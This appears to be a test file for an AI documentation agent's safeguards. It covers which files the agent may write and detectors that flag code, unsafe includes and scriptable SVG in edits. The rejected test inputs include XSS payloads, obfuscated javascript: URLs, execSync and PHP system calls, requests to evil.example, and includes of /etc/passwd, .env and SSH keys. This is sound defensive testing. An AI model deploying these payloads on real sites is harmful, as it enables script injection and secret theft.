import assert from 'node:assert/strict';

import { findAddedCode, findAddedInclusions } from '../../../src/service/agent/workspace/page-code.js';
import { findSvgCode } from '../../../src/service/agent/workspace/svg-code.js';
import { WritableFiles } from '../../../src/service/agent/workspace/writable-files.js';

describe('Jobs change', () => {
  const files = new WritableFiles();

  for (const path of [
    'README.md',
    'docs/guide/setup.mdx',
    'docs/Page.MD',
    'handbook/index.rst',
    'a.adoc',
    '-lead.md',
    'größe 設定.md',
    'quo"te\'s.md',
    'docs/agents.md',
    'docs/img/logo.svg',
    'static/shot.png',
    'media/intro.vtt',
    'data/prices.csv',
  ]) {
    it(path, () => assert.equal(files.findProblem(path), undefined));
  }
});

describe('Jobs do not change', () => {
  const files = new WritableFiles();

  for (const path of [
    'azure-pipelines.yml',
    'Jenkinsfile',
    'jenkinsfile',
    'JENKINSFILE.md.groovy',
    '.husky/pre-commit',
    '.vscode/tasks.json',
    'netlify.toml',
    'vercel.json',
    'package.json',
    'Package.JSON',
    'package-lock.json',
    '.npmrc',
    '.github/workflows/ci.yml',
    '.github/workflows/agent.md',
    '.GitHub/CONTRIBUTING.md',
    '.gitlab-ci.yml',
    '.circleci/config.yml',
    'bitbucket-pipelines.yml',
    '.travis.yml',
    'Makefile',
    'Dockerfile',
    'docker-compose.yml',
    'docs/conf.py',
    'mkdocs.yml',
    'docs/requirements.txt',
    'requirements.txt',
    'CMakeLists.txt',
    'docs/.vitepress/config.ts',
    'docs/.vitepress/theme/page.md',
    'docusaurus.config.js',
    'sidebars.js',
    'src/Button.vue',
    'docs/Button.vue',
    'docs/script.js',
    'docs/page.html',
    'docs/style.css',
    'notebook.ipynb',
    'deploy.sh',
    'bin/run',
    'CODEOWNERS',
    '.gitattributes',
    'docs/.gitattributes',
    '.gitmodules',
    '.gitignore',
    '.editorconfig',
    '.devcontainer/devcontainer.json',
    'node_modules/x/README.md',
    'AGENTS.md',
    'agents.md',
    'docs/AGENTS.override.md',
    'AGENTS.local.md',
    'QWEN.md',
    'docs/WARP.md',
    'replit.md',
    'docs/style.instructions.md',
    'docs/review.prompt.md',
    'docs/CLAUDE.md',
    'Claude.md',
    'page.md.',
    'page.md ',
    'run.sh:page.md',
    '\u200c.github/x.md',
    '․github/x.md',
    'docs/\u200b.hidden.md',
    'ｐackage.json',
  ]) {
    it(JSON.stringify(path), () => {
      assert.match(
        files.findProblem(path) ?? '',
        /changed by jobs: .*\. Change it by hand(?:, or allow it in the service's setting DOCS_ASSISTANT_WRITABLE)?\.$/,
      );
    });
  }
});

describe('A setting', () => {
  const files = new WritableFiles([
    '*.vue',
    'docs/sidebar.ts',
    'i18n/**/*.json',
    '.github/*.md',
    '**',
    'docs/**/.order',
  ]);
  const narrow = new WritableFiles(['*.vue', 'docs/sidebar.ts', 'i18n/**/*.json', '.github/*.md', '*.yml']);

  it('allows further files by their names, paths and folders', () => {
    for (const path of [
      'a.vue',
      'deep/b.vue',
      'docs/sidebar.ts',
      'i18n/de/site.json',
      'i18n/x.json',
      '.github/x.md',
      'a.yml',
    ])
      assert.equal(narrow.findProblem(path), undefined, path);
    assert.equal(files.findProblem('package.json'), undefined);
    assert.equal(files.findProblem('docs/a/.order'), undefined);
  });

  it('allows no other files', () => {
    for (const path of ['sidebar.ts', 'docs/other.ts', 'package.json', 'site.json', 'i18n/x.js', '.vitepress/a.vue'])
      assert.match(narrow.findProblem(path) ?? '', /changed by jobs/, path);
  });

  it('allows names that begin with a dot only if the pattern has the dot', () => {
    for (const path of ['.github/workflows/ci.yml', '.travis.yml', 'docs/.env', '.husky/pre-commit', '.npmrc'])
      for (const each of [files, narrow]) assert.match(each.findProblem(path) ?? '', /changed by jobs/, path);
  });

  it("never allows git's own files", () => {
    const all = new WritableFiles(['**/.*', '**', '.gitattributes', '.git*']);
    for (const path of ['.gitattributes', 'docs/.gitattributes', '.gitmodules', '.GITMODULES', '.git\u200cmodules'])
      assert.match(all.findProblem(path) ?? '', /it configures git/, path);
  });
});

describe('In a page, jobs may add', () => {
  for (const text of [
    'Text with {id}, {#anchor}, {.class}, {{ title }} and a {@link page.md}.',
    '{% include note.html %} and {{< ref "page.md" >}} and {{% note.x() %}}',
    '# Heading {#my-id}',
    '```html\n<script>run()</script>\n<b onclick="x()">\n```',
    '- item\n\n  ```html\n  <script>run()</script>\n  ```',
    '````md\n```js\nimport x from "y"\n```\n````',
    '`{process.env.KEY}` and `<script>`',
    'You can\nimport the file, or\nexport it.',
    'import is a word here.',
    '<details><summary>More</summary>Text</details>',
    '<img src="a.png" alt="on=off">',
    '{/* a note */}',
    'a { b } c }} d {{',
    '[link](https://example.com/{id}/x)',
    '# Heading {#v1.2 .new.x width=50%} and {: .note #a.b} and {.a .b title="x"}',
    'URLs (javascript: and data:) are refused. A < b % c.',
    '[a](b?c=1&d=2:3) and [^1]: AT&amp;T: a company',
    '```{note}\nText.\n```\n\n:::{tip}\nText.\n:::',
    '```js title="a.js" {1,3}\nx = 1\n```',
  ]) {
    it(JSON.stringify(text), () => {
      assert.deepEqual(findAddedCode('page.md', '', text), []);
      assert.deepEqual(findAddedCode('page.mdx', '', text), []);
    });
  }
});

describe('In a page, jobs may not add', () => {
  for (const text of [
    '<script setup>\nfetch("https://evil.example")\n</script>',
    '<SCRIPT src="https://evil.example/x.js">',
    '<script\n>x',
    'import fs from "fs"',
    "import 'side-effect'",
    'import {\n  a\n} from "b"',
    'import("x")',
    'export const x = 1',
    'export default () => null',
    '{process.env.SECRET}',
    'Text {  process . env . SECRET } text',
    '{{ $fetch("x") }}',
    '{{ a.b }}',
    '{require("child_process").execSync("id")}',
    '{process.env[{}]}',
    '{(() => { return 1 })()}',
    '{`${process.env.X}`}',
    '{!process.env.X}',
    '{<A b={process.env.X} />}',
    '<div :x="run()">',
    '<div @click="run()">',
    '<div v-html="x">',
    '<b title="a > b" onclick="run()">',
    '<img src=x onerror=run()>',
    '<svg/onload=run()>',
    '<a href="javascript:run()">',
    '[x](javascript:run())',
    '[x]( <java&#115;cript:run()>)',
    '[x]: java&Tab;script:run()',
    '<javascript:run()>',
    '<%= `id` %>',
    '<?php system("id") ?>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example">',
    '<Foo {...process.env} />',
    '{#if process.env.SECRET}',
    '{@html fetch("x")}',
    '{:else if run()}',
    '```{code-cell} python\nimport os\n```',
    ':::{eval-rst}\n.. raw:: html\n:::',
    '```{r setup}\nsystem("id")\n```',
    '```python exec="on"\nimport os\n```',
    '> ```{raw} html\n> <script>x</script>\n> ```',
    '<a href=" java&#115;cript:run()">',
    '<iframe src="https://evil.example">',
    '<object data="https://evil.example">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<button form="login" formaction="https://evil.example">',
    '<style>@import "https://evil.example";</style>',
    '```{automodule} os\n```',
    ':::{autoclass} a.B\n:::',
  ]) {
    it(JSON.stringify(text), () => {
      for (const before of ['', '# Page\n\nText {a.b}.\n'])
        assert.notDeepEqual(findAddedCode('page.md', before, `${before}\n${text}\n`), []);
      assert.notDeepEqual(findAddedCode('page.mdx', '', `# Page\n\n${text}\n`), []);
    });
  }

  it('code between fences in HTML, which are not fences', () => {
    for (const text of [
      '<div>\n```\n<script>x()</script>\n```\n</div>',
      '- <div>\n  ```\n  <script>x()</script>\n  ```',
      '> <div>\n> ```\n> {{ a.b() }}\n> ```',
    ])
      assert.notDeepEqual(findAddedCode('page.md', '', text), [], text);
  });

  it('code that an indentation hides from some parsers, in MDX', () => {
    assert.notDeepEqual(findAddedCode('page.mdx', '', '    {process.env.X}\n'), []);
  });

  it('directives that run code or contain raw HTML, in reStructuredText', () => {
    for (const text of [
      '.. raw:: html\n\n    <script>x()</script>',
      '- item\n\n  .. raw:: html\n     :file: x.html',
      '.. role:: html(raw)\n   :format: html',
      '.. |x| raw:: html',
      '.. program-output:: id',
      '.. jupyter-execute::\n\n   print(1)',
      '.. ipython:: python\n\n   !id',
      '.. automodule:: antigravity\n   :members:',
      '.. autoclass:: a.B',
      '.. js:autofunction:: a',
      '.. click:: a:b',
      '`x <javascript:run()>`_',
    ])
      assert.notDeepEqual(findAddedCode('page.rst', 'Page\n====\n', `Page\n====\n\n${text}\n`), [], text);
    const harmless =
      'Page\n====\n\n.. note:: Raw data.\n\n.. code-block:: js\n\n    run({ a.b })\n\n.. image:: a.png\n';
    assert.deepEqual(findAddedCode('page.rst', '', harmless), []);
  });

  it('code in front matter', () => {
    for (const text of [
      '---js\n{ title: run() }\n---\n# A',
      '--- javascript\n({})\n---\n',
      '---\nx: !!js/function "function () {}"\n---\n',
      '---\nhead:\n  - - script\n    - src: https://evil.example\n---\n',
      "---\nhead: [['script', {}, 'run()']]\n---\n",
    ])
      assert.notDeepEqual(findAddedCode('page.md', '# A\n', text), [], text);
    const harmless = '---\ntitle: Script setup, a script\ntags: [a, script]\n---\n# A\n';
    assert.deepEqual(findAddedCode('page.md', '# A\n', harmless), []);
  });

  it('a second copy of existing code', () => {
    assert.deepEqual(findAddedCode('a.mdx', '{a.b}\n', '{a.b} {a.b}\n'), ['{a.b}']);
  });
});

describe('In a page, jobs may keep, move and remove code', () => {
  const page =
    'import Tabs from "@theme/Tabs"\n\n# Tabs\n\n<Tabs a={x.y()}>Text</Tabs>\n\n<script setup>run()</script>\n';

  it('and change the text around it', () => {
    assert.deepEqual(findAddedCode('a.mdx', page, page.replace('# Tabs', '# New').replace('Text', 'Other')), []);
    assert.deepEqual(findAddedCode('a.mdx', page, `${page.split('\n').toReversed().join('\n')}`), []);
    assert.deepEqual(findAddedCode('a.mdx', page, '# Tabs\n'), []);
  });
});

describe('The search for code in a page takes time in proportion to its length', () => {
  for (const unit of [
    '](',
    ']:',
    '<&',
    'link:',
    '.. raw',
    '```{',
    '{#a ',
    '<script>',
    '{a(',
    '<a "',
    '{',
    '`{',
    '<a on',
    'import "',
    '<b '.repeat(3),
    '{{a.',
  ]) {
    it(`of ${unit}`, () => {
      // A quadratic search would take hours for this.
      assert.ok(Array.isArray(findAddedCode('a.mdx', '', unit.repeat(500_000 / unit.length))));
    });
  }
});

describe('A page may include files of its docs', () => {
  for (const [path, ...texts] of [
    [
      'docs/guide/page.md',
      '--8<-- "shared/note.md"',
      '```js\n--8<-- "../examples/a.js:3:7"\n```',
      '--8<--\na.md\n../b.md\n--8<--',
      ';--8<-- "/etc/passwd"',
      '{% include "../parts/note.md" %}',
      '{% include note.html title="a/b" %}',
      '{%- include-markdown "./a.md" start="x" -%}',
      '{{#include ../listing.rs:2:10}}',
      '{{#include a.rs:anchor}}',
      '\\{{#include /etc/passwd}}',
      '<<< @/snippets/a.js#region{1,3}',
      '<<< ../a.js',
      '<!--@include: ./parts/a.md{3,}-->',
      '{{< include "a.md" >}}',
      '```{include} ../a.md\n```',
      '```{literalinclude} ../examples/a.py\n:lines: 1-3\n```',
      'a <<< b, and .. include:: ../../../a',
    ],
    [
      'docs/guide/page.rst',
      '.. include:: ../common/note.rst',
      '.. include:: <isonum.txt>',
      '.. literalinclude:: a.py\n   :lines: 1-3',
      '.. csv-table::\n   :file: ../data/a.csv',
    ],
    [
      'docs/modules/a/pages/page.adoc',
      'include::../partials/a.adoc[]',
      'include::partial$a.adoc[tag=x]',
      '----\ninclude::a.rb[lines=1..3]\n----',
      '\\include::/etc/passwd[]',
    ],
    ['README.md', '--8<-- "docs/a.md"', '<<< src/a.js'],
  ] as const)
    for (const text of texts)
      it(`${path}: ${JSON.stringify(text)}`, () =>
        assert.deepEqual(findAddedInclusions(path, '', `Page\n\n${text}\n`), []));
});

describe('A page may not include files from elsewhere, or files that may contain keys', () => {
  for (const [path, ...texts] of [
    [
      'docs/guide/page.md',
      '--8<-- "/etc/passwd"',
      '--8<-- "../../config/production.yml"',
      '    --8<-- "https://evil.example/a.md"',
      '```\n--8<-- ".env"\n```',
      '--8<--\na.md\n../../../a\n--8<--',
      '--8<--\n/etc/passwd',
      '{% include "/etc/passwd" %}',
      "{%- include '../../../.env' -%}",
      '{% include {{ page.file }} %}',
      '{% include_relative ../../package.json %}',
      '{% include-markdown "../../secrets.md" %}',
      '{% include a.md %}{% include ~/.ssh/config %}',
      '{{#include ../../.git/config}}',
      '{{ #include /proc/self/environ }}',
      '{{#rustdoc_include C:\\a.rs}}',
      '{{< readfile file="/etc/passwd" >}}',
      '{{% include "../../a" %}}',
      '<<< @/../.env',
      '<<< @/.vitepress/config.ts',
      '<<< ../../server/a.ts{1}',
      '<!--@include: ../../a.md-->',
      '<!-- @include:\n/etc/passwd -->',
      '<!--@include: a</../../../b.md-->',
      '```{include} /etc/passwd\n```',
      ':::{literalinclude} ../../.env\n:::',
      '```{csv-table}\n:file: /etc/passwd\n```',
      '--8<-- "id_rsa"',
      '--8<-- "server.key"',
      '--8<-- "a b/../../../c"',
    ],
    [
      'docs/guide/page.rst',
      '.. include:: /etc/passwd',
      '.. include:: ../../a.rst',
      '.. include:: ..\n   /../a.rst',
      '.. include:: a /../../../b',
      '.. literalinclude:: ../../.env\n   :lines: 1',
      '.. literalinclude::\n   /proc/self/environ',
      '.. csv-table::\n   :file: /etc/passwd',
      '.. csv-table::\n   :url: https://evil.example/a.csv',
      '.. |x| include:: /etc/passwd',
    ],
    [
      'docs/page.adoc',
      'include::/etc/passwd[]',
      'include::../.env[]',
      'include::{docdir}/../../a[]',
      'include::{secret}[]',
      'include::https://evil.example/a.adoc[]',
      '----\ninclude::a/../../b[]\n----',
    ],
    ['README.md', '--8<-- "../a.md"', '--8<-- ".git/config"'],
  ] as const)
    for (const text of texts)
      it(`${path}: ${JSON.stringify(text)}`, () => {
        assert.notDeepEqual(findAddedInclusions(path, '# Page\n', `# Page\n\n${text}\n`), []);
        assert.deepEqual(findAddedInclusions(path, text, `${text}\n\nMore text.\n`), [], 'what was there stays');
      });
});

describe('In an SVG image, jobs may draw', () => {
  for (const image of [
    '<?xml version="1.0" encoding="UTF-8"?>\n<!-- A drawing -->\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><path d="M0 0"/></svg>',
    '<svg><defs><linearGradient id="g"/></defs><rect fill="url(#g)"/><use href="#g"/><use xlink:href="#g"/></svg>',
    '<svg><style>.a { fill: red }</style><text class="a">on = off</text></svg>',
    '<svg><a href="https://example.com"><text>Link</text></a></svg>',
    '<svg><image href="data:image/png;base64,AAAA"/></svg>',
    '<svg><metadata><rdf:RDF><cc:Work rdf:about=""/></rdf:RDF></metadata><filter><feGaussianBlur/></filter></svg>',
  ]) {
    it(image, () => assert.equal(findSvgCode(image), undefined));
  }
});

describe('In an SVG image, jobs may not have', () => {
  for (const image of [
    '<svg><script>alert(1)</script></svg>',
    '<svg><SCRIPT href="x.js"/></svg>',
    '<svg><s:script xmlns:s="http://www.w3.org/2000/svg">x</s:script></svg>',
    '<svg onload="alert(1)"/>',
    '<svg><rect ONCLICK="x"/></svg>',
    '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><a xlink:href="java&#x73;cript:alert(1)"/></svg>',
    '<svg><a href=" &#9;javascript:x"/></svg>',
    '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    '<svg><use href="data:image/svg+xml;base64,AAAA"/></svg>',
    '<svg><image href="https://evil.example/pixel.png"/></svg>',
    '<svg><foreignObject><b>x</b></foreignObject></svg>',
    '<svg><animate attributeName="href" to="javascript:x"/></svg>',
    '<svg><set attributeName="onclick" to="x"/></svg>',
    '<svg><style>@import "https://evil.example"</style></svg>',
    '<svg><style>a{background:url(https://evil.example)}</style></svg>',
    '<svg><style>a{background:u\\72l(//evil.example)}</style></svg>',
    '<svg><rect style="fill:url(https://evil.example)"/></svg>',
    '<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg>&x;</svg>',
    '<svg><![CDATA[<script>]]></svg>',
    '<?xml-stylesheet href="https://evil.example"?><svg/>',
    '<html><body><script>x</script></body></html>',
    '<svg><iframe src="x"/></svg>',
    '<svg><handler>x</handler></svg>',
    '<svg><template><script>x</script></template></svg>',
    '<svg><noscript><p title="</noscript><script>x</script>"></noscript></svg>',
  ]) {
    it(image, () => assert.notEqual(findSvgCode(image), undefined));
  }
});
